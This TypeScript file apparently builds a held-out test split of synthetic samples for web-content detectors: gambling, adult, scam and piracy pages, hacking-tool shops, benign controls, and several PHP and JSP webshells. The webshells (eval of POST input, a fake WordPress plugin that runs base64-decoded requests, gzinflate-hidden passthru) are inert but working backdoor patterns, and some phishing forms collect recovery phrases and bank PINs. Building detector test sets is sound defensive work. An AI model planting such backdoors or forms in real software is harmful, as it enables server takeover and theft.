/**
 * The "fresh" split: archetypes written after the detectors were tuned on train (and after the first
 * look at test), with new wording and layouts, to measure how the detectors generalise. Their first
 * result is recorded in test/corpus/README.md; the detectors were widened afterwards for the general
 * gaps it showed.
 */
import { deflateRawSync } from 'node:zlib';
import { zip } from './hacking.ts';
import { list, paragraphs, renderPage } from './html.ts';
import type { Rng } from './rng.ts';
import type { Archetype, Label, Sample } from './types.ts';

const F = (id: string, label: Label, count: number, make: (rng: Rng, i: number) => Sample): Archetype => ({
  id: `fresh-${id}`,
  label,
  heldOut: true,
  count,
  make,
});
const page = (ext: string, content: string): Sample => ({ ext, content });
const PHP_HEAD = '<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>\n';

export const FRESH: Archetype[] = [
  // ---- gambling
  F('horse-racing-en', 'gambling', 4, (rng) => {
    const rows = Array.from(
      { length: rng.int(6, 10) },
      (_, i) =>
        `<tr><td>${i + 1}</td><td>${rng.pick(['Silver Arrow', 'Night Rider', 'Golden Mile', 'Storm Chaser', 'Lucky Lad'])}</td><td class="price">${rng.int(2, 20)}/1</td><td><button class="add-to-betslip">Add</button></td></tr>`,
    );
    return page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `Racing Odds Today | ${rng.pick(['BetKing', 'TurfBet', 'RaceDay'])}`,
        nav: ['Racing', 'Football', 'In-Play', 'Promotions', 'My Bets'],
        sections: [
          `<h1>${rng.pick(['Ascot 14:30', 'Cheltenham 15:10', 'Sha Tin Race 5'])}</h1>`,
          `<table>${rows.join('')}</table>`,
          `<div class="betslip"><input name="stake" placeholder="Stake"> Win / Each-Way <button>Place Bet</button></div>`,
          `<p>${rng.pick(['Bet £10 get £30 in free bets', 'Best odds guaranteed on all UK racing', 'New customers: deposit £10, get a £20 bonus'])}</p>`,
        ],
        footer: '18+ | BeGambleAware.org | Please bet responsibly',
      }),
    );
  }),
  F('lottery-plan-group', 'gambling', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['PK10', '幸运飞艇', '快三'])}计划群 - 稳定盈利`,
        nav: ['首页', '计划', '上分', '联系'],
        sections: [
          `<h1>${rng.pick(['北京赛车PK10', '幸运飞艇', '极速快三'])}精准计划</h1>`,
          list(
            rng,
            rng.some(
              [
                '一期计划准确率90%以上',
                '倍投方案：1-2-4-8-16',
                '跟计划下注，每天稳赚几百',
                '平台上分下分秒到账',
                '加客服微信进群领取计划',
                '新人首充送20%',
              ],
              4,
            ),
          ),
          `<p>推荐平台：<a href="https://${rng.word(6)}.example/reg">点击注册</a></p>`,
        ],
        footer: '计划仅供参考',
      }),
    ),
  ),
  F('h5-casino-zh', 'gambling', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['亿万', '宝盈', '至尊'])}国际 - 手机版`,
        nav: ['首页', '活动', '客服', '我的'],
        sections: [
          `<div class="swiper">注册即送${rng.int(8, 88)}元 | USDT充值加送2% | 每日首单彩金</div>`,
          `<div class="grid">${rng
            .some(['真人', '体育', '电子', '棋牌', '捕鱼', '彩票', '电竞'], 6)
            .map((x) => `<a class="cell" href="/lobby/${x}">${x}</a>`)
            .join('')}</div>`,
          `<p>出款秒到，单日最高可提百万</p><button class="reg">注册领取</button>`,
        ],
        footer: '© 亚洲顶级娱乐平台',
      }),
    ),
  ),
  F('poker-room-en', 'gambling', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Real Money Poker Tournaments',
        nav: ['Cash Games', 'Tournaments', 'Promotions', 'Cashier'],
        sections: [
          `<h1>Play real money poker</h1><p>${rng.pick(['$1M guaranteed Sunday tournament, buy-in $109', 'Rakeback up to 40% every week', 'First deposit bonus 100% up to $600'])}</p>`,
          list(rng, ["Texas Hold'em", 'Omaha', 'Sit & Go', 'Spin & Gold jackpot']),
          '<a href="/cashier/deposit">Deposit now</a>',
        ],
        footer: 'Licensed in Malta. 18+',
      }),
    ),
  ),
  // ---- pornography
  F('adult-forum-zh', 'pornography', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['草榴', '成人', '夜猫'])}社区 - 福利论坛`,
        nav: ['论坛首页', '原创自拍区', '成人文学', '会员专区', '福利分享'],
        sections: [
          list(
            rng,
            Array.from(
              { length: rng.int(8, 12) },
              () =>
                `<a href="/thread-${rng.int(10000, 99999)}.html">[${rng.pick(['原创', '分享', '高清'])}] ${rng.pick(['福利图集', '偷拍合集', '成人视频分享', '无码资源'])} ${rng.int(1, 99)}P</a> 回复可见`,
            ),
          ),
          '<p>本论坛仅限18岁以上会员</p>',
        ],
        footer: '论坛禁止未成年人',
      }),
    ),
  ),
  F('jav-index', 'pornography', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `番号搜索 - ${rng.pick(['中文字幕', '无码流出', '高清'])}`,
        nav: ['最新', '中文字幕', '无码', '女优'],
        sections: [
          `<div class="list">${Array.from({ length: rng.int(10, 16) }, () => `<a href="/v/${rng.word(3)}-${rng.int(100, 999)}"><img src="/c/${rng.int(1, 9999)}.jpg">${rng.word(3).toUpperCase()}-${rng.int(100, 999)} 中文字幕</a>`).join('\n')}</div>`,
          '<p>每日更新日本AV番号，在线观看与磁力下载</p>',
        ],
        footer: '18+',
      }),
    ),
  ),
  F('adult-gallery-en', 'pornography', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Free Nude Pics & XXX Galleries',
        nav: ['Galleries', 'Models', 'Videos'],
        sections: [
          `<div>${Array.from({ length: rng.int(10, 15) }, () => `<a href="/g/${rng.int(1000, 9999)}"><img src="/t/${rng.int(1000, 9999)}.jpg" alt="nude gallery"></a>`).join('')}</div>`,
          '<p>Thousands of free erotic photo galleries. Adults only, 18+.</p>',
        ],
        footer: 'All models are over 18',
      }),
    ),
  ),
  // ---- fraud
  F('fake-refund-cs', 'fraud', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['淘宝', '京东', '拼多多'])}售后理赔中心`,
        nav: ['理赔', '退款进度'],
        sections: [
          `<p>您购买的商品经质检存在质量问题，平台将为您办理${rng.int(2, 5)}倍理赔退款。请填写收款信息，退款将在5分钟内到账。</p>`,
          `<form action="api/refund.php" method="post"><input name="name" placeholder="持卡人姓名"><input name="card" placeholder="银行卡号"><input name="idcard" placeholder="身份证号"><input name="yzm" placeholder="短信验证码"><button>确认退款</button></form>`,
        ],
        footer: '售后服务',
      }),
    ),
  ),
  F('fake-loan', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['闪电', '易', '安心'])}贷 - 无抵押秒批`,
        nav: ['首页', '申请', '我的'],
        sections: [
          `<h1>最高${rng.int(5, 30)}万 无抵押 不看征信 秒批秒到</h1>`,
          `<p>审核通过后需缴纳${rng.int(3, 10)}%的解冻金/保证金方可放款，放款后原路退还。</p>`,
          `<form action="/submit" method="post"><input name="name" placeholder="姓名"><input name="idno" placeholder="身份证号"><input name="bankno" placeholder="收款银行卡号"><button>立即申请</button></form>`,
        ],
        footer: '金融服务',
      }),
    ),
  ),
  F('wallet-seed-phish-en', 'fraud', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['MetaMask', 'Trust Wallet', 'Ledger'])} - Wallet Validation`,
        nav: [],
        sections: [
          `<h1>Validate your wallet</h1><p>${rng.pick(['Your wallet has been flagged for a security review.', 'Synchronise your wallet to avoid losing access.'])} Enter your 12 or 24-word recovery phrase to continue.</p>`,
          `<form action="https://${rng.word(8)}.example/collect" method="post"><textarea name="phrase" placeholder="Recovery phrase"></textarea><button>Validate</button></form>`,
        ],
        footer: 'Secure connection',
      }),
    ),
  ),
  F('subsidy-phish-zh', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['2025年', ''])}劳动补贴申领 - 人力资源和社会保障局`,
        nav: ['首页', '补贴申领'],
        sections: [
          '<p>根据最新政策，您可领取个人劳动补贴2860元，请于今日内完成申领，逾期视为自动放弃。</p>',
          `<form action="http://${rng.word(7)}.example/sb.php" method="post"><input name="xm" placeholder="姓名"><input name="sfz" placeholder="身份证号"><input name="kh" placeholder="银行卡号"><input type="password" name="mm" placeholder="银行卡密码"><input name="yue" placeholder="卡内余额"><button>立即申领</button></form>`,
        ],
        footer: '人力资源和社会保障局',
      }),
    ),
  ),
  // ---- piracy
  F('anime-stream-zh', 'piracy', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['咒术回战', '葬送的芙莉莲', '间谍过家家', '鬼灭之刃'])} 第${rng.int(2, 3)}季 全集在线观看 - ${rng.pick(['樱花', 'AGE', '风车'])}动漫`,
        nav: ['首页', '新番', '完结', '剧场版'],
        sections: [
          `<div class="ep">${Array.from({ length: rng.int(12, 24) }, (_, i) => `<a href="/play/${rng.int(100, 999)}-${i + 1}">第${i + 1}话</a>`).join(' ')}</div>`,
          '<p>BD无修版 | 简繁内封 | 免费高清在线播放</p>',
        ],
        footer: '本站不提供下载',
      }),
    ),
  ),
  F('game-crack-zh', 'piracy', 4, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['黑神话：悟空', '艾尔登法环', '博德之门3', '赛博朋克2077'])} 免安装中文学习版 - ${rng.pick(['3DM', '游侠', '单机'])}游戏`,
        nav: ['单机游戏', '破解补丁', '修改器'],
        sections: [
          '<p>解压即玩，免Steam，内置破解补丁，v1.0.8全DLC</p>',
          `<a href="magnet:?xt=urn:btih:${rng.hex(40)}">磁力下载</a> <a href="https://pan.baidu.com/s/1${rng.word(16)}">百度网盘</a> 提取码：${rng.word(4)}`,
        ],
        footer: '游戏资源来自网络',
      }),
    ),
  ),
  F('mod-apk-en', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['Spotify', 'YouTube', 'Netflix', 'Duolingo'])} Premium MOD APK (Unlocked) - Free Download`,
        nav: ['Apps', 'Games', 'MOD'],
        sections: [
          `<h1>Premium unlocked MOD APK v${rng.int(8, 9)}.${rng.int(0, 9)}</h1><p>No ads, all premium features unlocked for free. Cracked by the team.</p>`,
          `<a href="/dl/${rng.word(6)}.apk">Download APK</a>`,
        ],
        footer: 'We do not host copyrighted files',
      }),
    ),
  ),
  F('sports-stream-en', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Free Live Football Streams HD - No Subscription',
        nav: ['Football', 'NBA', 'UFC', 'F1'],
        sections: [
          list(
            rng,
            Array.from(
              { length: rng.int(6, 10) },
              () =>
                `<a href="/stream/${rng.word(6)}">${rng.pick(['Arsenal', 'Man City', 'Real Madrid', 'Lakers'])} vs ${rng.pick(['Chelsea', 'Liverpool', 'Barcelona', 'Celtics'])} - Watch live free (Link ${rng.int(1, 5)})</a>`,
            ),
          ),
          '<p>Free HD streams of Premier League, NBA and UFC pay-per-view. No registration.</p>',
        ],
        footer: 'Streams are found on the internet',
      }),
    ),
  ),
  // ---- hacking tools
  F('botnet-rental-zh', 'hacking-tool', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['暗影', '雷霆'])}DDoS - 压力测试`,
        nav: ['首页', '套餐', '攻击面板'],
        sections: [
          '<p>自有僵尸网络，肉鸡10万+，CC攻击、UDP洪水、SYN洪水，打谁谁死</p>',
          '<table><tr><td>日卡</td><td>99元</td></tr><tr><td>周卡</td><td>399元</td></tr><tr><td>月卡</td><td>1299元</td></tr></table>',
          '<p>支持USDT付款，联系TG购买</p>',
        ],
        footer: '仅供压力测试',
      }),
    ),
  ),
  F('phishing-kit-shop-en', 'hacking-tool', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Phishing Kits & Scam Pages - Shop',
        nav: ['Kits', 'Letters', 'SMTP', 'Contact'],
        sections: [
          list(
            rng,
            [
              'Office 365 true login kit',
              'Bank scampage + admin panel',
              'Crypto wallet drainer',
              'Antibot + Telegram result sender',
            ].map((x) => `${x} - $${rng.int(50, 400)} <a href="/buy/${rng.word(5)}">Buy</a>`),
          ),
          '<p>Fully undetected, lifetime updates, contact on Telegram.</p>',
        ],
        footer: 'Shop',
      }),
    ),
  ),
  F('tool-archive-fresh', 'hacking-tool', 3, (rng, i) => ({
    ext: 'zip',
    dir: 'files',
    name: `pack_${rng.int(10, 99)}`,
    content: zip(
      [
        [
          { name: 'CobaltStrike4.8/cobaltstrike.jar', text: 'x' },
          { name: 'CobaltStrike4.8/teamserver', text: 'x' },
        ],
        [
          { name: 'bin/mimikatz.exe', text: 'x' },
          { name: 'bin/LaZagne.exe', text: 'x' },
        ],
        [
          { name: 'webshell/Behinder_v4.1.jar', text: 'x' },
          { name: 'webshell/Godzilla.jar', text: 'x' },
        ],
      ][i % 3]!,
    ),
  })),
  // ---- webshells
  F('ws-array-filter', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$arr = array($_POST['${rng.word(3)}']);\narray_filter($arr, 'assert');\n`,
  })),
  F('ws-varvar', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$a = '_PO' . 'ST';\n$b = $$a;\neval($b['${rng.word(2)}']);\n`,
  })),
  F('ws-destruct', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\nclass ${rng.word(5)} { public $c; function __destruct() { @eval($this->c); } }\n$o = new stdClass();\n$x = new ${rng.word(5)}();\n$x->c = $_POST['${rng.word(3)}'];\n`,
  })),
  F('ws-wp-plugin-injected', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n/**\n * Plugin Name: ${rng.pick(['WP Cache Helper', 'SEO Booster'])}\n */\nadd_action('init', 'wpch_init');\nfunction wpch_init() {\n    if (isset($_REQUEST['wp_${rng.word(4)}'])) {\n        @eval(base64_decode($_REQUEST['wp_${rng.word(4)}']));\n        exit;\n    }\n}\n`,
  })),
  F('ws-jsp-el', 'webshell', 2, (rng) => ({
    ext: 'jsp',
    content: `<%-- hegui corpus: inert sample\n\${Runtime.getRuntime().exec(param.${rng.word(3)})}\n<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("${rng.word(3)}")).getInputStream()).useDelimiter("\\\\A").next()); %>\n--%>\n`,
  })),
  F('ws-gz-system', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$z = '${deflateRawSync(Buffer.from(`passthru($_REQUEST['${rng.word(2)}']);`)).toString('base64')}';\n@eval(gzinflate(base64_decode($z)));\n`,
  })),
  // ---- controls
  F('gov-anti-gambling', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '防范跨境赌博 守护家庭幸福 - 中国人民银行',
        nav: ['首页', '金融知识', '宣传教育'],
        sections: [
          paragraphs(
            rng.some(
              [
                '跨境赌博以“高额回报”“首存优惠”为诱饵，参赌者最终血本无归。',
                '不出租、出借银行卡，不为赌博平台提供充值提现通道。',
                '网络赌博平台后台可随意操控赔率和输赢。',
                '发现涉赌线索，请及时向公安机关举报。',
              ],
              3,
            ),
          ),
        ],
        footer: '中国人民银行 版权所有',
      }),
    ),
  ),
  F('macau-travel', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Macau Travel Guide: Hotels, Food and Shows',
        nav: ['Guides', 'Hotels', 'Food'],
        sections: [
          paragraphs([
            'The Cotai Strip is home to resort hotels, shopping malls and shows.',
            'Visitors can tour the historic centre, a UNESCO World Heritage site.',
            'Casino floors in the resorts are open around the clock; visitors must be 21 or older.',
            'Try the Portuguese egg tarts in Taipa village.',
          ]),
        ],
        footer: 'Travel blog',
      }),
    ),
  ),
  F('streaming-pricing-en', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['StreamPlus', 'ViewBox'])} - Plans and Pricing`,
        nav: ['Home', 'Movies', 'Series', 'Plans'],
        sections: [
          '<h1>Choose your plan</h1>',
          list(rng, [
            'Basic $6.99/month - HD',
            'Standard $12.99 - Full HD, 2 screens',
            'Premium $19.99 - 4K HDR',
          ]),
          '<p>All titles are licensed from studios. Cancel anytime. Watch new episodes every week.</p><a href="/signup">Start free trial</a>',
        ],
        footer: '© StreamPlus. All rights reserved.',
      }),
    ),
  ),
  F('bank-security-tips', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['建设银行', '招商银行'])} - 安全用卡提示`,
        nav: ['个人金融', '安全中心'],
        sections: [
          list(rng, [
            '本行工作人员不会索要您的银行卡密码和短信验证码。',
            '警惕假冒本行网站的钓鱼链接，请认准官方域名。',
            '收到“账户冻结、需要验证”的短信请勿点击链接。',
            '如遇可疑情况请致电客服热线。',
          ]),
        ],
        footer: '银行版权所有',
      }),
    ),
  ),
  F('pentest-course', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '网络安全渗透测试工程师培训课程',
        nav: ['课程', '讲师', '报名'],
        sections: [
          list(rng, [
            'Kali Linux环境搭建',
            'Metasploit在靶场中的使用',
            'SQL注入原理与防御',
            'Webshell检测与应急响应',
            '等级保护测评',
          ]),
          '<p>课程在授权靶场环境中进行，学员须签署合法使用承诺书。结业颁发证书。</p><a href="/signup">立即报名</a>',
        ],
        footer: '某某职业培训学校',
      }),
    ),
  ),
  F('software-store-legit', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['WPS Office', 'Xmind', '福昕PDF'])} 官方商城 - 购买正版激活码`,
        nav: ['产品', '购买', '下载', '支持'],
        sections: [
          '<p>购买正版授权，获取激活码，支持发票。</p>',
          '<table><tr><td>年度会员</td><td>¥149</td></tr><tr><td>永久授权</td><td>¥399</td></tr></table>',
          '<a href="/download/setup.exe">官方下载</a>',
        ],
        footer: '官方正版',
      }),
    ),
  ),
  F('tech-forum-zh', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '技术论坛 - 服务器运维板块',
        nav: ['首页', 'Linux', '数据库', '安全'],
        sections: [
          list(
            rng,
            Array.from(
              { length: 8 },
              () =>
                `<a href="/t/${rng.int(1000, 9999)}">${rng.pick(['nginx 502 怎么排查', '服务器被挖矿了怎么办', '求推荐免费的WAF', 'MySQL主从延迟', '宝塔面板安全设置'])}</a> 回复 ${rng.int(1, 99)}`,
            ),
          ),
        ],
        footer: '论坛',
      }),
    ),
  ),
  F('university-news-en', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'University News - Research',
        nav: ['News', 'Research', 'Admissions'],
        sections: [
          paragraphs([
            'Researchers published a study on online gambling advertising and its effect on young adults.',
            'The team analysed odds offers and bonus promotions shown on social media.',
            'They recommend stricter rules on bonus advertising.',
          ]),
        ],
        footer: 'University',
      }),
    ),
  ),
  F('php-legit-fresh', 'benign', 4, (rng, i) => ({
    ext: 'php',
    content: [
      `<?php\nnamespace app\\controllers;\n\nuse Yii;\nuse yii\\web\\Controller;\n\nclass SiteController extends Controller\n{\n    public function actionIndex()\n    {\n        $page = (int) Yii::$app->request->get('page', 1);\n        return $this->render('index', ['page' => $page]);\n    }\n}\n`,
      `<?php\ndefined('BASEPATH') OR exit('No direct script access allowed');\n\nclass Welcome extends CI_Controller {\n    public function index()\n    {\n        $this->load->model('news_model');\n        $data['news'] = $this->news_model->get_news($this->input->get('slug', TRUE));\n        $this->load->view('welcome_message', $data);\n    }\n}\n`,
      `<?php\n// Alipay async notify\nrequire 'config.php';\n$params = $_POST;\n$sign = base64_decode($params['sign'] ?? '');\nunset($params['sign'], $params['sign_type']);\nksort($params);\n$content = urldecode(http_build_query($params));\n$ok = openssl_verify($content, $sign, openssl_pkey_get_public(ALIPAY_PUBLIC_KEY), OPENSSL_ALGO_SHA256) === 1;\necho $ok ? 'success' : 'fail';\n`,
      `<?php\nfunction render_markdown(string $md): string {\n    $html = htmlspecialchars($md, ENT_QUOTES);\n    $html = preg_replace_callback('/\\*\\*(.+?)\\*\\*/', fn ($m) => '<b>' . $m[1] . '</b>', $html);\n    $html = preg_replace('/\\n{2,}/', '</p><p>', $html);\n    return '<p>' . $html . '</p>';\n}\necho render_markdown($_POST['text'] ?? '');\n`,
    ][i % 4]!,
  })),
];
